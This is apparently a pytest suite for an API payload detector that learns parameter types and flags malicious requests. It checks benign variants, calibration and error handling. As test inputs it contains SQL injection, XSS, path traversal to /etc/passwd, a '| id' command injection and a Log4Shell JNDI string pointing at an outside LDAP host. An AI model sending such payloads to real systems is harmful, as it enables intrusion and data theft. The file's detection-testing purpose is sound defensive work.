"""Payload detector: learns each parameter's type, flags payloads, lets benign variants pass."""

from __future__ import annotations

import numpy as np
import pandas as pd
import pytest
from payload_world import HOST, call, normal_calls
from sklearn.base import clone

from apibehave.common.errors import UserError
from apibehave.detect.payload import PayloadDetector, attack_type_of
from apibehave.detect.payload.tokenize import body_items, decode_once, path_items


@pytest.fixture(scope="module")
def detector() -> PayloadDetector:
    """A detector fitted on 6,000 normal calls and calibrated on 1,000 others at 1% FPR."""
    return (
        PayloadDetector()
        .fit(normal_calls(6000, seed=1))
        .calibrate(normal_calls(1000, seed=2), fpr=0.01)
    )


def test_learns_value_types_per_parameter(detector: PayloadDetector) -> None:
    """Numbers, enumerations, emails and flags are learned as such, per endpoint."""
    search = detector.profiles_["shop"].params["/v1/search"]
    users = detector.profiles_["shop"].params["/v1/users"]
    assert search["page"].learned_type == "integer"
    assert search["sort"].learned_type == "enumerated"
    assert search["q"].learned_type == "free_text"
    assert users["email"].learned_type == "email"
    assert users["age"].learned_type == "integer"
    assert users["newsletter"].learned_type == "enumerated"
    assert users["name"].learned_type == "enumerated"  # 16 names, each seen ~125 times
    assert detector.profiles_["shop"].path_ids["items/{id}"].learned_type == "integer"
    assert search["page"].numbers == (1.0, 5.0)


def test_benign_variants_pass(detector: PayloadDetector) -> None:
    """Unseen but ordinary values (words, ids, emails, cookies, client software) pass."""
    benign = [
        call(query="q=blue+coffee+mug&page=3&sort=desc"),
        call(query="q=jacket&page=1&sort=relevance"),
        call(path="/v1/items/54321", query=None),
        call(
            method="POST",
            path="/v1/users",
            query=None,
            body='{"name":"Paula","email":"paula.77@mail.example","age":41,"newsletter":true}',
        ),
        call(cookie="0123456789abcdef"),
        call(user_agent="Mozilla/5.0 (X11; Linux x86_64; rv:126.0) Gecko/20100101 Firefox/126.0"),
        call(user_agent="NewShopApp/1.0 (iOS 18.1; iPhone16,2) CFNetwork/1568"),
    ]
    for one in benign:
        assert detector.risk_one(one) <= detector.threshold_, detector.explain_one(one)


@pytest.mark.parametrize(
    ("changes", "field", "attack_type"),
    [
        ({"query": "q=x%27+OR+%271%27%3D%271&page=1&sort=asc"}, "query", "injection"),
        ({"query": "q=%3Cscript%3Ealert(1)%3C%2Fscript%3E&page=1&sort=asc"}, "query", "injection"),
        (
            {
                "method": "POST",
                "path": "/v1/users",
                "query": None,
                "body": '{"name":"x\\"; DROP TABLE users;--","email":"a@b.example","age":30,'
                '"newsletter":true}',
            },
            "body",
            "injection",
        ),
        ({"path": "/v1/items/..%2F..%2F..%2Fetc%2Fpasswd", "query": None}, "path", "probing"),
        ({"path": "/.env", "query": None}, "path", "probing"),
        ({"path": "/v1/items/12345.bak", "query": None}, "path", "probing"),
        ({"method": "TRACE"}, "path", "probing"),
        ({"query": "q=lamp&page=1&sort=asc&debug=true"}, "query", "query_manipulation"),
        ({"query": "q=lamp&page=999999999&sort=asc"}, "query", "query_manipulation"),
        ({"query": "q=lamp&page=1&sort=price"}, "query", "query_manipulation"),
        ({"query": "q=lamp&page=1&page=2&page=3&sort=asc"}, "query", "query_manipulation"),
        ({"query": "q=lamp&page=1%00&sort=asc"}, "query", "query_manipulation"),
        ({"query": "q=lamp+%7C+id&page=1&sort=asc"}, "query", "injection"),
        ({"path": "/v1/items/%00", "query": None}, "path", "probing"),
        ({"user_agent": "${jndi:ldap://203.0.113.7:1389/a}"}, "user_agent", "header_manipulation"),
        ({"user_agent": "A" * 4000}, "user_agent", "header_manipulation"),
        ({"host": "evil.example"}, "host", "header_manipulation"),
        ({"cookie": "' OR 1=1--"}, "cookie", "header_manipulation"),
    ],
)
def test_flags_payloads_and_names_their_attack_type(
    detector: PayloadDetector, changes: dict[str, object], field: str, attack_type: str
) -> None:
    """SQLi, XSS, traversal, hidden files, odd methods, tampering: flagged, located, typed."""
    evidence = detector.explain_one(call(**changes))
    assert evidence["flagged"], evidence
    assert evidence["findings"][0]["field"] == field
    assert evidence["attack_type"] == attack_type
    assert attack_type_of(evidence) == attack_type


def test_evidence_names_field_parameter_value_and_expectation(detector: PayloadDetector) -> None:
    """A flagged value's evidence says where, what was seen (truncated), what was expected."""
    long_payload = "1%27+UNION+SELECT+" + "a" * 200
    evidence = detector.explain_one(call(query=f"q=lamp&page={long_payload}&sort=asc"))
    top = evidence["findings"][0]
    assert (top["field"], top["name"], top["endpoint"]) == ("query", "page", "/v1/search")
    assert top["value"].startswith("1' UNION SELECT") and top["value"].endswith("(216 chars)")
    assert top["expected"]["type"] == "integer"
    assert top["expected"]["length"] == [1, 1]
    assert top["expected"]["charset"] == "0-9"
    assert {p["kind"] for p in top["parts"]} >= {"characters", "length"}
    assert evidence["deviation_pct"] > 100
    assert evidence["risk"] == pytest.approx(
        detector.risk_one(call(query=f"q=lamp&page={long_payload}&sort=asc"))
    )


def test_missing_header_that_is_always_there_is_a_deviation(detector: PayloadDetector) -> None:
    """A call without a User-Agent, when every training call had one, costs something."""
    assert detector.risk_one(call(user_agent=None)) > 0
    assert detector.risk_one(call()) == 0


def test_calibration_keeps_the_target_false_positive_rate() -> None:
    """The threshold keeps the target FPR, allows for attacks in the slice, has a floor."""
    fitted = PayloadDetector(min_threshold=0.0).fit(normal_calls(2000, seed=3))
    holdout = normal_calls(2000, seed=4)
    fitted.calibrate(holdout, fpr=0.01)
    assert np.mean(fitted.risk(holdout) > fitted.threshold_) <= 0.01
    assert fitted.calibration_["target_fpr"] == 0.01
    attacks = pd.DataFrame([call(query=f"q=%27{i}%3B--&page=1&sort=asc") for i in range(40)])
    dirty = pd.concat([holdout, attacks], ignore_index=True)
    assert fitted.calibrate(dirty, fpr=0.01).threshold_ > 20  # the attacks set the quantile
    fitted.calibrate(dirty, fpr=0.01, contamination=0.02)
    assert np.mean(fitted.risk(holdout) > fitted.threshold_) <= 0.01
    assert (fitted.risk(attacks) > fitted.threshold_).all()
    floor = PayloadDetector(min_threshold=50.0).fit(normal_calls(500, seed=3))
    assert floor.calibrate(holdout, fpr=0.5).threshold_ == 50.0


def test_follows_scikit_learn_estimator_rules(detector: PayloadDetector) -> None:
    """__init__ stores arguments, fit returns self, fitted state ends in _, one score direction."""
    fresh = PayloadDetector(rare_share=0.02, min_samples=5)
    assert fresh.get_params()["rare_share"] == 0.02
    assert not [k for k in vars(fresh) if k.endswith("_")]
    events = normal_calls(300, seed=5)
    assert fresh.fit(events) is fresh
    assert {"profiles_", "n_calls_", "threshold_", "calibration_"} <= set(vars(fresh))
    assert clone(fresh).get_params() == fresh.get_params()
    frame = pd.DataFrame([call(), call(query="q=%27%3B--&page=1&sort=asc")])
    np.testing.assert_array_equal(detector.score_samples(frame), -detector.risk(frame))
    assert detector.predict(frame).tolist() == [1, -1]
    assert (detector.decision_function(frame) < 0).tolist() == [False, True]


def test_an_unknown_api_is_judged_by_the_pooled_profile(detector: PayloadDetector) -> None:
    """A call to an API never seen in training is still scored (all APIs pooled)."""
    evidence = detector.explain_one(call(api="other", query="q=%3Cscript%3E&page=1&sort=asc"))
    assert evidence["learned_api"] is False
    assert evidence["flagged"]


def test_user_mistakes_are_one_line_errors() -> None:
    """Unfitted use, a frame without a path, an empty frame and bad settings raise UserError."""
    with pytest.raises(UserError, match="not fitted"):
        PayloadDetector().risk_one(call())
    with pytest.raises(UserError, match="'path' column"):
        PayloadDetector().fit(pd.DataFrame({"query": ["a=1"]}))
    with pytest.raises(UserError, match="at least one"):
        PayloadDetector().fit(pd.DataFrame({"path": pd.Series([], dtype=object)}))
    with pytest.raises(UserError, match="rare_share"):
        PayloadDetector(rare_share=2.0).fit(normal_calls(10, seed=1))


def test_items_are_decoded_once_and_split_by_place() -> None:
    """Queries and forms decode once; JSON bodies flatten; id segments are named by their parent."""
    assert decode_once("a%2527+b", plus=True) == "a%27 b"
    assert decode_once("caf%E9", plus=False) == "café"
    template, items = path_items("/v1/items/12345/reviews")
    assert template == "/v1/items/{id}/reviews"
    assert [(i.name, i.value) for i in items[1:]] == [("items/{id}", "12345")]
    names = [(i.name, i.value) for i in body_items('{"a":{"b":[1,"x"]},"c":null}')]
    assert names == [("a.b[]", "1"), ("a.b[]", "x"), ("c", "null")]
    assert [(i.name, i.value) for i in body_items("x=1&y=a+b")] == [("x", "1"), ("y", "a b")]
    assert [i.name for i in body_items("[" * 5000)] == [""]
    deep = body_items("[" * 40 + "1" + "]" * 40)
    assert len(deep) == 1 and deep[0].name.endswith("{deep}")


def test_host_is_learned_as_an_enumeration(detector: PayloadDetector) -> None:
    """One Host in training: the same host costs nothing, another one is flagged."""
    assert detector.profiles_["shop"].fields["host"].learned_type == "enumerated"
    assert detector.risk_one(call(host=HOST)) == 0


def test_novelty_backs_off_from_endpoint_to_api(detector: PayloadDetector) -> None:
    """A name new to the whole API costs more than one the API uses elsewhere; new segments add."""

    def name_cost(query: str) -> float:
        findings = detector.explain_one(call(query=query))["findings"]
        return sum(f["cost"] for f in findings if f["kind"] == "name")

    known_elsewhere = name_cost("q=lamp&page=1&sort=asc&email=a")
    new_to_api = name_cost("q=lamp&page=1&sort=asc&debug=a")
    assert 0 < known_elsewhere < new_to_api
    known_segments = detector.risk_one(call(path="/v1/users/search", query=None))
    new_segment = detector.risk_one(call(path="/v1/users/backup", query=None))
    assert 0 < known_segments < new_segment


def test_oversized_and_deeply_nested_bodies_are_judged(detector: PayloadDetector) -> None:
    """Multi-megabyte and deeply nested bodies are scored (head read, full length counted)."""
    huge = '{"name":"' + "A" * 2_000_000 + '","email":"a@b.example","age":30}'
    evidence = detector.explain_one(call(method="POST", path="/v1/users", query=None, body=huge))
    assert evidence["flagged"]
    assert "length" in {p["kind"] for p in evidence["findings"][0]["parts"]}
    nested = detector.explain_one(
        call(method="POST", path="/v1/users", query=None, body="[" * 9999)
    )
    assert nested["flagged"] and nested["attack_type"] == "probing"


def test_a_few_attack_calls_in_training_do_not_teach_their_names() -> None:
    """A parameter name seen in 5 of 4,000 training calls still costs like a new one."""
    events = normal_calls(4000, seed=7)
    tainted = pd.DataFrame([call(query=f"q=lamp&page=1&sort=asc&debug={i}") for i in range(5)])
    clean = PayloadDetector().fit(events)
    dirty = PayloadDetector().fit(pd.concat([events, tainted], ignore_index=True))
    probe = call(query="q=lamp&page=1&sort=asc&debug=1")

    def name_cost(detector: PayloadDetector) -> float:
        findings = detector.explain_one(probe)["findings"]
        return sum(f["cost"] for f in findings if f["kind"] == "name")

    assert name_cost(dirty) > 6.0
    assert name_cost(dirty) == pytest.approx(name_cost(clean), rel=0.05)
